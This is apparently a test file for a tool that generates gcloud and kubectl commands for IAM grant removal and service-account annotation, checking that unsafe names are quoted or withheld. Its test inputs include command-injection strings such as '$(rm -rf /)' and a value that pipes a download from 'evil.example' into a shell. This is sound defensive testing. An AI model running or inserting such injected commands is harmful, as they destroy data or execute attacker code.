import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { setAnnotation } from '../../shared/detectors/annotation-command.ts';
import { command, flag, shellWord, type Word } from '../../shared/detectors/commands.ts';
import { addGrant, removeGrant } from '../../shared/detectors/grant-commands.ts';
import { projectName, serviceAccountName } from '../../shared/model/asset.ts';
import { shellWords } from './shell-words.ts';

/** Any text, and many that are bad for a shell. */
const anyText = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...'ab$(){}[]`\'"\\|&;<>*?~!#%^=-, \n\t/:@') }),
  fc.constantFrom('$(x)', '`x`', "'; x; '", '--flag=x', '-', '', 'a\nb', '\u202e', 'ａ', '=ls', '~', '# x'),
);
const isWithheld = (text: string): boolean => text.startsWith('# ');

describe('a word', () => {
  it.each([
    ['plain', 'api@acme-prod.iam.gserviceaccount.com', 'api@acme-prod.iam.gserviceaccount.com'],
    ['with brackets', 'serviceAccount:p[a/b]', "'serviceAccount:p[a/b]'"],
    ['that runs something', '$(rm -rf /)', "'$(rm -rf /)'"],
    ['that runs it in double quotes', '"`x`"', `'"\`x\`"'`],
    ['of stars', '*', "'*'"],
    ['that zsh would look up', '=ls', "'=ls'"],
    ['with a quote', "it's", undefined],
    ['with a line break', 'a\nb', undefined],
    ['with a zero byte', 'a\0b', undefined],
    ['with an escape', '\x1b[31m', undefined],
    ['with letters that look like others', 'аpi', undefined],
    ['that turns the text around', 'a\u202eb', undefined],
    ['that is empty', '', undefined],
  ])('%s', (_what, text, expected) => {
    expect(shellWord(text)).toBe(expected);
  });

  it('is what a shell reads back, or is withheld', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const word = shellWord(text);
        if (word !== undefined) expect(shellWords(word)).toEqual([text]);
        else expect(text).toMatch(/^$|['\p{Cc}\P{ASCII}]/u);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('a command', () => {
  it('is one line of words, each as it was given, or is withheld', () => {
    const anyWord: fc.Arbitrary<Word> = fc.oneof(
      anyText,
      fc.record({ flag: fc.constantFrom('member', 'role', 'project'), value: anyText }),
      fc.constant(flag('overwrite')),
    );
    fc.assert(
      fc.property(
        fc.constantFrom('gcloud' as const, 'kubectl' as const),
        fc.array(anyWord),
        (kind, words) => {
          const [remedy, ...more] = command(kind, ...words);
          expect(more).toEqual([]);
          expect(remedy?.kind).toBe(kind);
          const text = remedy?.text ?? '';
          expect(text).not.toMatch(/[\n\r]/);
          if (isWithheld(text)) return;
          expect(shellWords(text)).toEqual([
            kind,
            ...words.map((word) =>
              typeof word === 'string'
                ? word
                : word.value === undefined
                  ? `--${word.flag}`
                  : `--${word.flag}=${word.value}`,
            ),
          ]);
        },
      ),
      { numRuns: 2_000 },
    );
  });

  it.each(['--impersonate-service-account=x', '-h', '-'])('takes no name for a flag: %s', (name) => {
    expect(command('gcloud', 'describe', name)).toEqual([
      { kind: 'gcloud', text: expect.stringMatching(/^# .*withheld/) },
    ]);
    expect(command('gcloud', 'describe', flag('project', name))[0]?.text).toBe(
      `gcloud describe --project=${name}`,
    );
  });

  it('is withheld without a word of what was in it', () => {
    expect(command('kubectl', 'annotate', "x'; curl evil.example | sh; '")).toEqual([
      {
        kind: 'kubectl',
        text: '# kubectl command withheld: a name in it has characters that no shell command should carry',
      },
    ]);
  });
});

describe('taking a grant away', () => {
  const rest = '--member=user:jane@acme.example --role=roles/x';
  it.each([
    ['project', projectName('acme-prod'), `projects remove-iam-policy-binding acme-prod ${rest}`],
    [
      'folder',
      '//cloudresourcemanager.googleapis.com/folders/4',
      `resource-manager folders remove-iam-policy-binding 4 ${rest}`,
    ],
    [
      'organisation',
      '//cloudresourcemanager.googleapis.com/organizations/1',
      `organizations remove-iam-policy-binding 1 ${rest}`,
    ],
    [
      'account',
      serviceAccountName('api@acme-prod.iam.gserviceaccount.com'),
      `iam service-accounts remove-iam-policy-binding api@acme-prod.iam.gserviceaccount.com --project=acme-prod ${rest}`,
    ],
    [
      'account whose e-mail names no project',
      serviceAccountName('x@example.com'),
      `iam service-accounts remove-iam-policy-binding x@example.com ${rest}`,
    ],
    [
      'account known by its id',
      serviceAccountName('1001'),
      `iam service-accounts remove-iam-policy-binding 1001 ${rest}`,
    ],
    [
      'bucket',
      '//storage.googleapis.com/ledger',
      `storage buckets remove-iam-policy-binding gs://ledger ${rest}`,
    ],
    [
      'topic',
      '//pubsub.googleapis.com/projects/p/topics/t',
      `pubsub topics remove-iam-policy-binding t --project=p ${rest}`,
    ],
    [
      'subscription',
      '//pubsub.googleapis.com/projects/p/subscriptions/s',
      `pubsub subscriptions remove-iam-policy-binding s --project=p ${rest}`,
    ],
    [
      'secret',
      '//secretmanager.googleapis.com/projects/p/secrets/s',
      `secrets remove-iam-policy-binding s --project=p ${rest}`,
    ],
    [
      'regional secret',
      '//secretmanager.googleapis.com/projects/p/locations/europe-west1/secrets/s',
      `secrets remove-iam-policy-binding s --location=europe-west1 --project=p ${rest}`,
    ],
    [
      'key',
      '//cloudkms.googleapis.com/projects/p/locations/l/keyRings/r/cryptoKeys/k',
      `kms keys remove-iam-policy-binding k --keyring=r --location=l --project=p ${rest}`,
    ],
  ])('on a %s', (_kind, resource, expected) => {
    const grant = { resource, role: 'roles/x', member: 'user:jane@acme.example' };
    expect(removeGrant(grant)).toEqual([{ kind: 'gcloud', text: `gcloud ${expected}` }]);
    expect(addGrant(grant)).toEqual([
      { kind: 'gcloud', text: `gcloud ${expected.replace('remove-', 'add-')}` },
    ]);
  });

  it.each([
    [
      'dataset',
      '//bigquery.googleapis.com/projects/p/datasets/d',
      '//bigquery.googleapis.com/projects/p/datasets/d',
    ],
    ['something else', '//x.googleapis.com/projects/p/y', '//x.googleapis.com/projects/p/y'],
    ['something that runs something', '//x.googleapis.com/$(x)', "'//x.googleapis.com/$(x)'"],
    [
      'something with a line break',
      '//x.googleapis.com/a\nrm -rf /',
      'a resource whose name no shell should carry',
    ],
  ])('on %s, for which there is no command', (_kind, resource, named) => {
    expect(removeGrant({ resource, role: 'roles/x', member: 'allUsers' })).toEqual([
      {
        kind: 'gcloud',
        text: `# remove-iam-policy-binding for ${named}: no gcloud form is known, change its IAM policy where it is managed`,
      },
    ]);
  });

  it('knows an account by its e-mail where the caller does', () => {
    const email = 'api@acme-prod.iam.gserviceaccount.com';
    const grant = { resource: serviceAccountName('1001'), role: 'roles/x', member: 'allUsers', email };
    expect(removeGrant(grant)[0]?.text).toContain(` ${email} --project=acme-prod `);
  });

  it.each([
    ['plain', { expression: 'a < b', title: 't' }, 'expression=a < b,title=t'],
    ['without a title', { expression: 'a' }, 'expression=a,title='],
    [
      'with a comma, which would end it',
      { expression: 'f(a, b)', title: 't' },
      '^~^expression=f(a, b)~title=t',
    ],
    ['with a comma in its title', { expression: 'a', title: 'x, y ~' }, '^|^expression=a|title=x, y ~'],
  ])('under a condition: %s', (_what, condition, expected) => {
    const [remedy] = removeGrant({
      resource: projectName('p'),
      role: 'roles/x',
      member: 'allUsers',
      condition,
    });
    expect(shellWords(remedy!.text).at(-1)).toBe(`--condition=${expected}`);
  });

  it('under a condition that cannot be written is withheld', () => {
    const condition = { expression: 'f(a, "~|#%;")' };
    const [remedy] = removeGrant({
      resource: projectName('p'),
      role: 'roles/x',
      member: 'allUsers',
      condition,
    });
    expect(remedy?.text).toContain('withheld');
  });

  it('is words to the letter, or withheld, whatever the names are', () => {
    const part = anyText.filter((text) => text !== '' && !text.includes('/'));
    const resource = fc.oneof(
      part.map(projectName),
      part.map(serviceAccountName),
      part.map((name) => `//storage.googleapis.com/${name}`),
      fc.tuple(part, part).map(([p, t]) => `//pubsub.googleapis.com/projects/${p}/topics/${t}`),
      fc
        .tuple(part, part, part)
        .map(
          ([p, r, k]) => `//cloudkms.googleapis.com/projects/${p}/locations/l/keyRings/${r}/cryptoKeys/${k}`,
        ),
      anyText,
    );
    const condition = fc.option(fc.record({ expression: anyText, title: anyText }), { nil: undefined });
    fc.assert(
      fc.property(resource, anyText, anyText, condition, (resource, role, member, condition) => {
        const [{ text } = { text: '' }] = removeGrant({ resource, role, member, condition });
        expect(text).not.toMatch(/[\n\r]/);
        if (isWithheld(text)) return;
        const words = shellWords(text);
        expect(words).toContain(`--member=${member}`);
        expect(words).toContain(`--role=${role}`);
        // No name has become a flag: those there are, are ours.
        const flags = words.filter((word) => word.startsWith('-'));
        for (const word of flags)
          expect(word).toMatch(/^--(member|role|condition|project|keyring|location)=/);
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('pointing a KSA at an account', () => {
  const KSA = { pool: 'p.svc.id.goog', namespace: 'payments', name: 'api' };
  const ANNOTATION = 'iam.gke.io/gcp-service-account';
  it.each([
    ['at an account', 'x@p.iam.gserviceaccount.com', `${ANNOTATION}=x@p.iam.gserviceaccount.com`],
    ['at none', undefined, `${ANNOTATION}-`],
  ])('%s', (_what, email, last) => {
    expect(setAnnotation(KSA, email)).toEqual([
      {
        kind: 'kubectl',
        text: `kubectl annotate serviceaccount api --namespace=payments --overwrite ${last}`,
      },
    ]);
  });

  it('is words to the letter, or withheld, whatever the names are', () => {
    fc.assert(
      fc.property(anyText, anyText, anyText, (namespace, name, email) => {
        const [{ text } = { text: '' }] = setAnnotation({ pool: 'p', namespace, name }, email);
        if (isWithheld(text)) return;
        expect(shellWords(text)).toEqual([
          'kubectl',
          'annotate',
          'serviceaccount',
          name,
          `--namespace=${namespace}`,
          '--overwrite',
          `${ANNOTATION}=${email}`,
        ]);
        expect(name.startsWith('-')).toBe(false);
      }),
      { numRuns: 1_000 },
    );
  });
});
